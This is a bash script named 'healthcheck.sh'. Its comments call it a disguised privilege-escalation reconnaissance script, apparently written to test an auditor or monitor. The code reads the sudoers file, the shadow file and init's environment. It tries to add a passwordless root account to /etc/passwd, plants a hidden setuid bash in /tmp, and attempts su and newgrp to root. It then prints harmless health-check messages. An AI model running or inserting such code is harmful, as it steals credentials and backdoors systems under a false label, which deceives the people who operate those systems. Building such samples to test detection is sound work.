#!/bin/bash
# "healthcheck.sh": presented as a host health check; in fact the privilege-escalation
# reconnaissance an attacker's script runs after landing as an unprivileged user
# (the shape of linpeas / LinEnum, reduced). Run as auditor; exits 0.
echo "[*] healthcheck starting (pid $$)"

echo "[*] identity"
id
grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status

echo "[*] sudo rights"
sudo -n -l 2>&1 || echo "[-] sudo -n -l refused"

echo "[*] setuid binaries"
find /usr/bin /usr/sbin /usr/lib/openssh /usr/lib/dbus-1.0 -perm -4000 -type f 2>/dev/null

echo "[*] secrets"
cat /etc/sudoers 2>&1 | head -n 3
cat /etc/shadow 2>&1 | head -n 1
tr '\0' '\n' < /proc/1/environ 2>&1 | head -n 5

echo "[*] writable account database?"
if echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd 2>/dev/null; then
  echo "[+] /etc/passwd is writable"
else
  echo "[-] /etc/passwd not writable"
fi

echo "[*] setuid shell in /tmp"
cp /bin/bash /tmp/.hc-bash && chmod u+s /tmp/.hc-bash && ls -l /tmp/.hc-bash

echo "[*] su / newgrp"
su -c id root < /dev/null 2>&1 || echo "[-] su refused"
newgrp root < /dev/null 2>&1 || echo "[-] newgrp refused"

echo "[*] container runtime"
if [ -S /var/run/docker.sock ]; then
  echo "[+] docker.sock present"
else
  ls -l /var/run/docker.sock 2>&1
fi

echo "[*] healthcheck idle"
sleep 1.5
echo "[*] healthcheck done"
exit 0
